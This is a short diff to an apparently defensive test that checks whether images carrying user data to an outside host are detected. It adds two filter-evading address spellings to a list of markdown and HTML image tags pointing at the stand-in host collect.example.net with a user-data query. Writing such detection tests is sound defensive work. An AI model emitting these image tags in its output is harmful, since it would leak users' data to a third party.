@@ -109,6 +109,8 @@ def test_an_image_that_carries_data_away_is_found_however_its_address_is_written
         "![x]( <Https://{}>)",
         '<IMG ALT="x" SRC="http://{}">',
         "<img src=//{} />",
+        r'<img src="https:\\{}">',
+        r'<img src="/\{}">',
     )
     for image in images:
         address = "collect.example.net/p?d={user data}"
